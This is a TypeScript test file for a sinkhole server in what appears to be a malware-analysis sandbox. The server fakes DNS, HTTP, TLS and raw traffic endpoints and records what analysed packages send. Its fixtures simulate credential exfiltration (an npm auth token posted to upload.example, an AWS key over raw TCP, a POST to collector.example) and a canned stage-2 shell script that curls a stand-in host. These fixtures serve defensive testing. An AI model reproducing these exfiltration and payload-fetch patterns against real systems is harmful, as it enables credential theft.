import dgram from 'node:dgram';
import { once } from 'node:events';
import fs from 'node:fs';
import http from 'node:http';
import https from 'node:https';
import net from 'node:net';
import os from 'node:os';
import tls from 'node:tls';
import path from 'node:path';
import dnsPacket from 'dns-packet';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { SinkholeCapture } from '@vetbox/contracts';
import { serve } from './main.js';
import { createAnalysisCa } from './tls.js';

// The server on the host loopback, without the namespace's iptables: original destinations
// fall back to the listener's own address, everything else is the same code as in the container.
const base = 20_000 + Math.floor(Math.random() * 20_000);
const ports = { dns: base, tcp: base + 1, udp: base + 2 };
const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'sinkhole-'));
const controlSocket = path.join(dir, 'control.sock');
const ca = createAnalysisCa('unit-test');
let close: () => void;

async function capture(): Promise<SinkholeCapture> {
  const socket = net.connect(controlSocket);
  const chunks: Buffer[] = [];
  for await (const c of socket) chunks.push(c as Buffer);
  return SinkholeCapture.parse(JSON.parse(Buffer.concat(chunks).toString('utf8')));
}

beforeAll(async () => {
  ({ close } = await serve({
    caCertPem: ca.certPem,
    caKeyPem: ca.keyPem,
    ports,
    controlSocket,
    canned: [{ host: 'stage.example', path: '/stage2.sh', body: '#!/bin/sh\ncurl http://next.example/ping\n' }],
    skipNetworkSetup: true,
  }));
});
afterAll(() => close?.());

describe('sinkhole server', () => {
  it('answers DNS A queries with a distinct address per name and records them', async () => {
    const sock = dgram.createSocket('udp4');
    const ask = async (name: string, type: 'A' | 'AAAA') => {
      sock.send(dnsPacket.encode({ type: 'query', id: 7, questions: [{ type, name }] }), ports.dns, '127.0.0.1');
      const [msg] = (await once(sock, 'message')) as [Buffer];
      return dnsPacket.decode(msg);
    };
    const a = await ask('abc.attacker.example', 'A');
    const b = await ask('other.example', 'A');
    const aaaa = await ask('abc.attacker.example', 'AAAA');
    sock.close();
    const addrA = (a.answers?.[0] as { data: string }).data;
    expect(addrA).toMatch(/^198\.1[89]\./);
    expect((b.answers?.[0] as { data: string }).data).not.toBe(addrA);
    expect(aaaa.answers).toEqual([]);
    const cap = await capture();
    expect(cap.dns.map((d) => [d.name, d.type])).toEqual(
      expect.arrayContaining([['abc.attacker.example', 'A'], ['abc.attacker.example', 'AAAA'], ['other.example', 'A']]),
    );
    expect(cap.dns.find((d) => d.name === 'abc.attacker.example' && d.type === 'A')?.answer).toBe(addrA);
  });

  it('records an HTTP POST and answers 200 (canned stage-2 body when configured)', async () => {
    const body = await new Promise<string>((resolve, reject) => {
      const req = http.request(
        { host: '127.0.0.1', port: ports.tcp, method: 'POST', path: '/collect?x=1', headers: { host: 'collector.example' } },
        (res) => {
          let text = '';
          res.on('data', (c) => (text += c));
          res.on('end', () => resolve(`${res.statusCode} ${text}`));
        },
      );
      req.on('error', reject);
      req.end('secret-body');
    });
    expect(body).toMatch(/^200 /);
    const script = await new Promise<string>((resolve) => {
      http.get({ host: '127.0.0.1', port: ports.tcp, path: '/stage2.sh', headers: { host: 'stage.example' } }, (res) => {
        let t = '';
        res.on('data', (c) => (t += c));
        res.on('end', () => resolve(t));
      });
    });
    expect(script).toContain('curl http://next.example/ping');
    const cap = await capture();
    const post = cap.streams.flatMap((s) => s.http).find((h) => h.path === '/collect?x=1');
    expect(post).toMatchObject({ method: 'POST', host: 'collector.example', bodyBytes: 11 });
    expect(Buffer.from(post!.bodyBase64, 'base64').toString()).toBe('secret-body');
  });

  it('terminates TLS with a leaf for the SNI and records the decrypted request', async () => {
    const status = await new Promise<number>((resolve, reject) => {
      const req = https.request(
        {
          host: '127.0.0.1',
          port: ports.tcp,
          servername: 'upload.example',
          method: 'POST',
          path: '/npmrc',
          headers: { host: 'upload.example' },
          ca: ca.certPem,
          checkServerIdentity: (host, cert) => (cert.subject.CN === 'upload.example' ? undefined : new Error(host)),
        },
        (res) => {
          res.resume();
          res.on('end', () => resolve(res.statusCode ?? 0));
        },
      );
      req.on('error', reject);
      req.end('//registry.npmjs.org/:_authToken=npm_x');
    });
    expect(status).toBe(200);
    const cap = await capture();
    const stream = cap.streams.find((s) => s.sni === 'upload.example');
    expect(stream?.kind).toBe('tls');
    expect(stream?.http[0]).toMatchObject({ method: 'POST', path: '/npmrc', host: 'upload.example' });
    expect(Buffer.from(stream!.http[0]!.bodyBase64, 'base64').toString()).toContain('_authToken=npm_x');
  });

  it('keeps the first bytes of an unknown protocol and answers', async () => {
    const sock = net.connect(ports.tcp, '127.0.0.1');
    sock.write(Buffer.from('[default]\naws_access_key_id = AKIAEXAMPLE\n'));
    const [reply] = (await once(sock, 'data')) as [Buffer];
    expect(reply.toString()).toBe('OK\r\n');
    sock.end();
    await once(sock, 'close');
    const cap = await capture();
    const raw = cap.streams.find((s) => s.kind === 'raw' && s.protocol === 'tcp');
    expect(Buffer.from(raw!.dataBase64, 'base64').toString()).toContain('AKIAEXAMPLE');
    expect(raw!.bytes).toBe(42);
  });

  it('records UDP datagrams per flow', async () => {
    const sock = dgram.createSocket('udp4');
    for (let i = 0; i < 3; i++) sock.send(`ping-${i}`, ports.udp, '127.0.0.1');
    await new Promise((r) => setTimeout(r, 200));
    sock.close();
    const cap = await capture();
    const udp = cap.streams.filter((s) => s.protocol === 'udp');
    expect(udp).toHaveLength(1);
    expect(Buffer.from(udp[0]!.dataBase64, 'base64').toString()).toBe('ping-0ping-1ping-2');
  });

  it('survives hostile input: broken TLS hellos, odd server names, garbage DNS', async () => {
    const send = async (bytes: Buffer) => {
      const sock = net.connect(ports.tcp, '127.0.0.1');
      sock.on('error', () => {});
      sock.resume();
      sock.end(bytes);
      await once(sock, 'close');
    };
    await send(Buffer.from([0x16, 0x03, 0x01, 0x00, 0x05, 1, 2, 3, 4, 5]));
    await send(Buffer.concat([Buffer.from([0x16, 0x03, 0x01, 0x40, 0x00]), Buffer.alloc(64, 0xff)]));
    const odd = tls.connect({ host: '127.0.0.1', port: ports.tcp, servername: `${'x'.repeat(60)}.${'y_'.repeat(30)}.example`, rejectUnauthorized: false });
    odd.on('error', () => {});
    odd.once('secureConnect', () => odd.end());
    await once(odd, 'close');
    const udp = dgram.createSocket('udp4');
    udp.send(Buffer.from([0, 1, 2, 3, 0xff, 0xff, 0xff]), ports.dns, '127.0.0.1');
    udp.send(Buffer.alloc(600, 0xc0), ports.dns, '127.0.0.1');
    await new Promise((r) => setTimeout(r, 100));
    udp.close();
    // Still serving and still recording.
    const status = await new Promise<number>((resolve) => {
      http.get({ host: '127.0.0.1', port: ports.tcp, path: '/after', headers: { host: 'after.example' } }, (res) => {
        res.resume();
        resolve(res.statusCode ?? 0);
      });
    });
    expect(status).toBe(200);
    const cap = await capture();
    expect(cap.streams.some((s) => s.http.some((h) => h.path === '/after'))).toBe(true);
    expect(cap.streams.filter((s) => s.kind === 'tls').length).toBeGreaterThanOrEqual(3);
  });
});
